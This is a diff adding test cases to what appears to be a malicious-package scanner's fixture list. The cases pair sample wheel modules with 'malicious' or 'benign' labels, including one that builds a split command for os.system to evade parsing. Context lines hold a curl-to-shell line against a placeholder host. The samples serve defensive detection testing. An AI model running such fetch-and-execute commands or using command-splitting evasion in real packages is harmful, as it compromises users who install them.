@@ -131,6 +131,10 @@ CASES = [
         "b'curl -s https://r.x.invalid/i.sh | sh'], [b'/bin/sh'], True, (), None, None, "
         "-1, -1, -1, -1, -1, -1, *os.pipe(), False, False, 0, None, None, None, -1, None, "
         "False)\n"), "malicious", ("PV302",)),
+    _wheel("a Python 3.12 f-string (PEP 701) makes the module unparsable by 3.11; the "
+           "command is built from pieces", "pep701", _init(
+               "pep701", "import os\ncfg = {'a': 1}\nlabel = f\"{cfg[\"a\"]}\"\n"
+                         f"cmd = {SPLIT_RUN}\nos.system(cmd)\n"), "malicious", ("PV302",)),
     # a process function handed, with its command, to code that calls it
     _wheel("os.system handed to a thread pool's submit with a split command", "submitsys",
            _init("submitsys", "import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
@@ -345,6 +349,13 @@ CASES = [
                                "    RATES = list(csv.reader(io.TextIOWrapper(z.open('rates.csv'))))\n"),
         "zipcsv/tables.dat": zipped({"rates.csv": "eur,1.0\nusd,1.1\n",
                                      "README.txt": "exchange rates"})}, "benign"),
+    _wheel("Python 3.12 f-strings reusing their quotes and a backslash in a report helper",
+           "pep701ok", _init(
+               "pep701ok", "import subprocess\n\n\ndef report(rows):\n"
+                           "    return f\"{'\\n'.join(f\"{r[\"name\"]}: {r[\"n\"]}\" "
+                           "for r in rows)}\"\n\n\ndef version():\n"
+                           "    return subprocess.check_output(['git', 'describe'], text=True)\n"),
+           "benign"),
     _wheel("template path hook importing a .tpl of plain assignments", "tplhook", {
         "tplhook/__init__.py": (
             "import os, sys\nfrom importlib.machinery import FileFinder, SourceFileLoader\n\n\n"
